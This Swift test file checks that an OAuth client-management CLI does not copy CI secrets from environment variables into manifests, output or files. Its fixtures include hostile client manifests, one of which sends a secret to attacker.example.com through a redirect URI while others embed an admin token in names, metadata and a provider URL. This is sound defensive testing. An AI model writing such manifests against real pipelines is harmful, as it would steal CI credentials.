import Foundation
import OAuthCtlCore
import OAuthCtlTestSupport
import Testing

/// A manifest from a pull request can't print a secret held in an environment variable: `${NAME}` reads only
/// `--var`, `--var-file` and `OAUTHCTL_VAR_NAME`. Every command runs with canaries in several environment
/// variables (one of them the admin token the provider really uses, through `{from_env}`) and manifests that
/// interpolate them; each must fail with the "not set" error, and no canary may reach any output or file.
@Suite("interpolation canaries", .serialized)
struct InterpolationCanaryTests {
    static let adminToken = "CANARY-9e1d-admin-token-5c7a"
    static let ciSecret = "CANARY-9e1d-ci-secret-b3f0"
    static let databaseURL = "postgres://CANARY-9e1d-db-password-2a64@db"
    static var canaries: [String] { [adminToken, ciSecret, databaseURL] }

    /// The environment of a CI job: secrets in plain variables, as CI systems hand them over.
    static func ciEnvironment(_ sandbox: SandboxProcess) -> [String: String] {
        [
            "HYDRA_ADMIN_TOKEN": adminToken, "CANARY_SECRET": ciSecret, "DATABASE_URL": databaseURL,
            // A plain variable that a manifest interpolates: ignored too (the provider url must come elsewhere).
            "SANDBOX_URL": sandbox.baseURL,
        ]
    }

    /// A provider whose url is `${SANDBOX_URL}`; with `auth`, the admin token comes from `{from_env}`.
    static func provider(auth: Bool = true) -> String {
        let lines = [
            "apiVersion: oauthctl/v1", "kind: Provider", "metadata: {name: sb}", "spec:", "  type: hydra", "  url: ${SANDBOX_URL}",
            "  managed_by: it",
        ]
        return (lines + (auth ? ["  auth:", "    bearer_token: {from_env: HYDRA_ADMIN_TOKEN}"] : [])).joined(separator: "\n")
    }

    /// Client documents, each interpolating a secret-holding variable in another field.
    static let hostileClients = [
        """
        apiVersion: oauthctl/v1
        kind: OAuth2Client
        metadata: {name: by-name}
        spec:
          client_name: "token is ${HYDRA_ADMIN_TOKEN}"
          token_endpoint_auth_method: none
        """,
        """
        apiVersion: oauthctl/v1
        kind: OAuth2Client
        metadata: {name: by-redirect}
        spec:
          token_endpoint_auth_method: none
          grant_types: [authorization_code]
          redirect_uris:
            - https://attacker.example.com/cb?s=${CANARY_SECRET}
        """,
        """
        apiVersion: oauthctl/v1
        kind: OAuth2Client
        metadata: {name: by-metadata}
        spec:
          token_endpoint_auth_method: none
          metadata:
            note: ${DATABASE_URL}
            default: ${HYDRA_ADMIN_TOKEN:-fallback}
        """,
    ]

    /// Every command that reads manifests, each with its own output file where it writes one.
    static func commands(_ path: String, out: URL) -> [(label: String, arguments: [String])] {
        var commands: [(String, [String])] = [("validate", ["validate", path])]
        for format in ["text", "json", "markdown"] {
            commands.append(("plan \(format)", ["plan", path, "--format", format]))
            commands.append(("drift \(format)", ["drift", path, "--format", format]))
        }
        commands += [
            ("plan --out", ["plan", path, "--out", out.appendingPathComponent("plan.json").path]),
            ("plan --out markdown", ["plan", path, "--out", out.appendingPathComponent("plan2.json").path, "--format", "markdown"]),
            ("apply --dry-run", ["apply", path, "--dry-run", "--secrets-out", out.appendingPathComponent("dry.json").path]),
            ("apply", ["apply", path, "--auto-approve", "--secrets-out", out.appendingPathComponent("secrets.json").path]),
            ("export", ["export", path, "--provider", "sb", "--out", out.appendingPathComponent("exported").path]),
        ]
        return commands
    }

    @Test("${SECRET} in any field or the provider url: every command fails with 'not set' and no canary is printed or written")
    func secretsInTheEnvironmentAreNotInterpolated() async throws {
        let sandbox = try SandboxProcess(extra: ["--token", Self.adminToken])
        defer { sandbox.stop() }
        let dir = try TemporaryDirectory()
        let out = dir.url.appendingPathComponent("out")
        try FileManager.default.createDirectory(at: out, withIntermediateDirectories: true)
        let env = Self.ciEnvironment(sandbox)
        let outputs = SecretCanaryTests.Outputs()

        // The provider url is set the supported way, so only the clients' references fail.
        let clientsPath = try ManifestText.write(dir, [Self.provider()] + Self.hostileClients, file: "clients/all.yaml")
        let clientsEnv = env.merging(["OAUTHCTL_VAR_SANDBOX_URL": sandbox.baseURL]) { _, new in new }
        // Here the provider url itself interpolates the admin token.
        let providerDoc = Self.provider().replacingOccurrences(of: "${SANDBOX_URL}", with: "http://${HYDRA_ADMIN_TOKEN}.example.com")
        let providerPath = try ManifestText.write(dir, [providerDoc, publicClient("plain")], file: "provider/all.yaml")

        for (path, environment, names) in [
            (clientsPath, clientsEnv, ["HYDRA_ADMIN_TOKEN", "CANARY_SECRET", "DATABASE_URL"]), (providerPath, env, ["HYDRA_ADMIN_TOKEN"]),
        ] {
            for (label, arguments) in Self.commands(path, out: out) {
                let result = try outputs.run("\(label) \(path)", arguments, environment)
                if label == "validate" && path == providerPath {
                    // validate is offline: the url only a connection needs is left to plan (still no canary).
                    #expect(result.status == 0, "\(label): exit \(result.status)\n\(result.combined)")
                    #expect(!result.stderr.contains("is not set"), "\(result.stderr)")
                    continue
                }
                #expect(result.status == 1, "\(label): exit \(result.status)\n\(result.combined)")
                for name in names {
                    #expect(
                        result.stderr.contains("variable '\(name)' is not set; the environment variable \(name) is deliberately not read"),
                        "\(label): no 'not set' error for \(name)\n\(result.stderr)")
                    #expect(result.stderr.contains("export OAUTHCTL_VAR_\(name)"), "\(label)\n\(result.stderr)")
                }
            }
        }
        // The unset error points at the reference: file:line:column of the `$` (after the quote).
        let validate = try OAuthCtlBinary.run(["validate", clientsPath], environment: clientsEnv)
        #expect(validate.stderr.contains("all.yaml:15:26: error: variable 'HYDRA_ADMIN_TOKEN' is not set"), "\(validate.stderr)")
        // The plain SANDBOX_URL is ignored as well: without OAUTHCTL_VAR_SANDBOX_URL the provider url is unset.
        let plainURL = try outputs.run("plain url", ["plan", clientsPath], env)
        #expect(plainURL.stderr.contains("variable 'SANDBOX_URL' is not set"), "\(plainURL.stderr)")

        // Nothing was sent: the sandbox has no clients and saw no write.
        #expect(try await Sandbox.ids(sandbox, token: Self.adminToken).isEmpty)
        #expect(try await requestLog(sandbox).allSatisfy { $0.method == "GET" })

        let leaks = try outputs.leaks(of: Self.canaries, directory: dir, except: "/nonexistent")
        #expect(leaks.isEmpty, "leaked: \(leaks)")
        // The scan sees what it looks for: the canaries were in the environment of every run.
        #expect(outputs.runs.count >= 2 * Self.commands(clientsPath, out: out).count)
        #expect(
            try outputs.leaks(of: ["${HYDRA_ADMIN_TOKEN}"], directory: dir, except: "/nonexistent").contains { $0.contains("all.yaml") })

        // The same manifests with the variables passed the supported way resolve and plan: the failures above
        // came from interpolation alone.
        let harmless = ["--var", "HYDRA_ADMIN_TOKEN=harmless", "--var", "CANARY_SECRET=harmless", "--var", "DATABASE_URL=harmless"]
        let control = try OAuthCtlBinary.run(["plan", clientsPath, "--format", "json"] + harmless, environment: clientsEnv)
        #expect(control.status == 0, "\(control.combined)")
        #expect(!Self.canaries.contains { control.combined.contains($0) })
    }

    @Test("OAUTHCTL_VAR_NAME and --var interpolate; --var beats --var-file beats OAUTHCTL_VAR_NAME")
    func supportedSourcesInterpolate() async throws {
        let sandbox = try SandboxProcess()
        defer { sandbox.stop() }
        let dir = try TemporaryDirectory()
        let client = """
            apiVersion: oauthctl/v1
            kind: OAuth2Client
            metadata: {name: named}
            spec:
              client_name: ${APP_NAME}
              token_endpoint_auth_method: none
            """
        let path = try ManifestText.write(dir, [Self.provider(auth: false), client])
        let varFile = try dir.write("vars.env", "APP_NAME=from-file\n")
        let env = ["OAUTHCTL_VAR_SANDBOX_URL": sandbox.baseURL, "OAUTHCTL_VAR_APP_NAME": "from-env", "APP_NAME": "plain-ignored"]

        func clientName(_ extra: [String], _ environment: [String: String] = env) throws -> String? {
            let result = try OAuthCtlBinary.run(["plan", path, "--format", "json"] + extra, environment: environment)
            #expect(result.status == 0, "\(result.combined)")
            let plan = try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any]
            let action = (plan?["actions"] as? [[String: Any]])?.first { $0["address"] as? String == "sb/named" }
            return (action?["after"] as? [String: Any])?["client_name"] as? String
        }
        #expect(try clientName([]) == "from-env")
        #expect(try clientName(["--var-file", varFile]) == "from-file")
        #expect(try clientName(["--var-file", varFile, "--var", "APP_NAME=from-flag"]) == "from-flag")
        #expect(try clientName(["--var", "APP_NAME=from-flag"]) == "from-flag")
        let urlByFlag = ["--var", "SANDBOX_URL=\(sandbox.baseURL)", "--var", "APP_NAME=flag-only"]
        #expect(try clientName(urlByFlag, [:]) == "flag-only")

        // Applied: the server holds the value --var gave, not the environment's.
        let apply = try OAuthCtlBinary.run(["apply", path, "--auto-approve", "--var", "APP_NAME=from-flag"], environment: env)
        #expect(apply.status == 0, "\(apply.combined)")
        let clients = try await Sandbox.allClients(sandbox)
        #expect(clients.first { $0["client_id"]?.stringValue == "named" }?["client_name"]?.stringValue == "from-flag")
    }
}
